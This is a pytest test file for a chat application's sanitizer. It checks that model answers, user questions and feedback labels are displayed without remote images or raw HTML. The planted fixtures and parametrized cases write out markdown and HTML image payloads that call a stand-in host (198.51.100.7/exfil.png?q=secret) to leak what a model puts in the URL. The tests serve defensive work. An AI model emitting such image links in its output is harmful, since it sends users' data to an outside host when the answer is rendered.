"""Model output (and anything a document or an end user wrote) is shown without remote images
and without raw HTML: a planted ``![x](http://host/exfil.png?q=secret)`` would otherwise make
the browser fetch that URL the moment the answer is drawn, leaking what the model put in it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.ui.helpers import CHAT_APP

Open = Callable[..., Any]
EXFIL = "http://198.51.100.7/exfil.png?q=secret"
PLANTED = (
    f"Fifteen days of leave. ![x]({EXFIL}) and ![y][logo] <img src='{EXFIL}&html'> "
    f"<b>bold</b>\n\n[logo]: {EXFIL}&ref\n\nCode stays code: `a < b` and `vec![1]`.\n"
)


def unsafe_tokens(markdown: str) -> list[str]:
    """Image and raw-HTML tokens of ``markdown`` as a CommonMark + GFM-tables parser reads it."""
    from markdown_it import MarkdownIt

    found: list[str] = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        for part in [token, *(token.children or [])]:
            if part.type in ("image", "html_inline", "html_block"):
                found.append(f"{part.type}: {part.content or part.attrs}")
    return found


def test_the_planted_answer_is_unsafe_as_it_stands() -> None:
    # The checker itself must see the hole, or the tests below prove nothing.
    kinds = {entry.split(":")[0] for entry in unsafe_tokens(PLANTED)}
    assert kinds == {"image", "html_inline"}


@pytest.mark.parametrize(
    "text",
    [
        PLANTED,
        "![a](http://198.51.100.7/a.png)",
        "\\\\![a](http://198.51.100.7/a.png)",  # an escaped backslash, then an image
        "<img src=http://198.51.100.7/a.png>",
        "<div>\n<img src=http://198.51.100.7/a.png>\n</div>\n",
        "| a | b |\n|---|---|\n| ![c](http://198.51.100.7/c.png) | <i>x</i> |\n",
        "- item ![d](http://198.51.100.7/d.png)\n  > quote <span>e</span>",
        '`<a href="`"><img src=http://198.51.100.7/f.png>',  # HTML beats a code span
        "![g](<http://198.51.100.7/g.png>) ![h]( http://198.51.100.7/h.png 'title')",
    ],
)
def test_safe_markdown_leaves_no_image_and_no_html(text: str) -> None:
    from ui.web.model_text import safe_markdown

    shown = safe_markdown(text)
    assert unsafe_tokens(shown) == []
    assert safe_markdown(shown) == shown  # stable: showing it twice changes nothing


def test_safe_markdown_keeps_ordinary_markdown_and_code() -> None:
    from ui.web.model_text import safe_markdown

    ordinary = (
        "**Fifteen** days, see [the policy](http://intranet/leave) and `x < y`.\n\n```\nif a < b: ![\n```\n"
    )
    assert safe_markdown(ordinary) == ordinary
    shown = safe_markdown(PLANTED)
    assert "`a < b`" in shown and "`vec![1]`" in shown  # code spans untouched
    assert "Fifteen days of leave." in shown and "&lt;b>bold&lt;/b>" in shown  # HTML shown as text


def test_label_text_is_plain() -> None:
    from ui.web.model_text import label_text

    assert unsafe_tokens(label_text(PLANTED)) == []
    assert "![" not in label_text("![x](http://198.51.100.7/a.png)")


def test_the_playground_draws_a_planted_answer_without_image_or_html(
    workbench: Open, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = tmp_path / "reply.json"
    script.write_text(json.dumps({"default": PLANTED}), encoding="utf-8")
    monkeypatch.setenv("LADDER_MODEL", f"fake:{script}")
    at = workbench("playground")
    at.text_area(key="play_question").input("How many days of leave?")
    at.multiselect[0].set_value(["prompt"])
    at.button[0].click().run()
    answers = [m.value for m in at.markdown if "Fifteen days of leave" in m.value]
    assert len(answers) == 1
    assert unsafe_tokens(answers[0]) == []
    assert not any(getattr(m.proto, "allow_html", False) for m in at.markdown)


def test_the_chat_draws_a_planted_answer_without_image_or_html(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.testing.v1 import AppTest

    script = tmp_path / "reply.json"
    script.write_text(json.dumps({"default": PLANTED}), encoding="utf-8")
    monkeypatch.setenv("LADDER_MODEL", f"fake:{script}")
    at = AppTest.from_file(str(CHAT_APP), default_timeout=60).run()
    at.chat_input[0].set_value("How many days of leave? ![q](http://198.51.100.7/q.png)").run()
    assert not at.exception and not at.error
    drawn = [m.value for message in at.chat_message for m in message.markdown]
    assert any("Fifteen days of leave" in value for value in drawn)
    for value in drawn:  # the question too: what an end user pasted is shown the same way
        assert unsafe_tokens(value) == [], value
    assert at.session_state["chat_history"][1]["content"] == PLANTED  # stored as the model wrote it


def test_the_feedback_queue_shows_a_planted_question_as_plain_text(workbench: Open) -> None:
    from assistant.feedback import record_feedback
    from assistant.settings import load_settings

    record_feedback(
        load_settings(), question="Leave? ![t](http://198.51.100.7/track.png)", answer=PLANTED,
        rating="down", correction=None, strategy="rag", source="chat", session_id="s1",
    )  # fmt: skip
    at = workbench("feedback")
    labels = [e.label for e in at.expander]
    assert len(labels) == 1 and "Leave?" in labels[0]
    assert unsafe_tokens(labels[0]) == []
